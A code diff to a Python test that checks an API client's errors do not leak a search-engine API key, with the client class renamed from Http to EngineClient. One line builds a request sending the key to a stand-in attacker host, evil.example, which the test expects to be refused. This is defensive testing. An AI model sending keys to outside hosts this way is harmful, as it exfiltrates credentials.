@@ -234,18 +234,18 @@ def test_errors_have_no_chain(site, engine):
     import threading
 
     from urlset import AnnounceError
-    from urlset.announce.http import Http, Request
-    from urlset.announce.secrets import Keyring
+    from urlset.announce.client import EngineClient, Request
+    from urlset.transport.keyring import Keyring
 
     ring = Keyring()
     ring.add(BING_KEY)
     engine.close()
-    with Http("bing", engine.url, ring, threading.Event(), timeout=2, retries=0) as http:
+    with EngineClient("bing", engine.url, ring, threading.Event(), timeout=2, retries=0) as client:
         with pytest.raises(AnnounceError) as caught:
-            http.call(Request("GET", f"{engine.url}/?apikey={BING_KEY}"), lambda _a: None)
+            client.call(Request("GET", f"{engine.url}/?apikey={BING_KEY}"), lambda _a: None)
         request = Request("GET", f"http://evil.example/?apikey={BING_KEY}")
         with pytest.raises(AssertionError) as other:
-            http.call(request, lambda _a: None)
+            client.call(request, lambda _a: None)
     for error in (caught.value, other.value):
         assert error.__cause__ is None and error.__context__ is None
         assert_no_key(repr(error) + repr(request) + repr(ring))
